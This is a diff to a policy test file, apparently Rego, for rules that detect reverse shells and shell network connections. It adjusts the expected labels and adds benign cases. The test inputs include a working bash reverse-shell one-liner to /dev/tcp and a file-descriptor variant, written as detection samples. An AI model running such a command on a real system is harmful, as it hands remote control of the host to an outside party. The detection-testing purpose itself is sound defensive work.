@@ -90,10 +90,12 @@ test_no_shell_on_a_socket if {
 }
 
 test_shells_that_connect if {
-	rules(event("connect", {"host": "a.example", "port": 1, "protocol": 6}, by("bash"))) == {"reverse_shell"}
+	rules(event("connect", {"host": "a.example", "port": 1, "protocol": 6}, by("bash"))) == {"shell_connection"}
+	rules(event("connect", {"host": "198.18.0.1", "port": 53, "protocol": 17}, by("bash"))) == set()
 	rules(event("connect", {"host": "a.example", "port": 1, "protocol": 6}, by("busybox"))) == set()
 	rules(exec("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])) == {"reverse_shell"}
-	rules(exec("/bin/bash", ["bash", "-c", "exec 5<>/dev/tcp/192.0.2.1/4444"])) == {"reverse_shell"}
+	rules(exec("/bin/bash", ["bash", "-c", "exec 5<>/dev/tcp/192.0.2.1/4444"])) == set()
+	rules(exec("/bin/bash", ["bash", "-c", "until (echo </dev/tcp/db.example/5432); do sleep 1; done"])) == set()
 	rules(exec("/bin/bash", ["bash", "-c", "grep -r /dev/tcp/ docs"])) == set()
 	rules(exec("/usr/bin/grep", ["grep", "> /dev/tcp/"])) == set()
 }
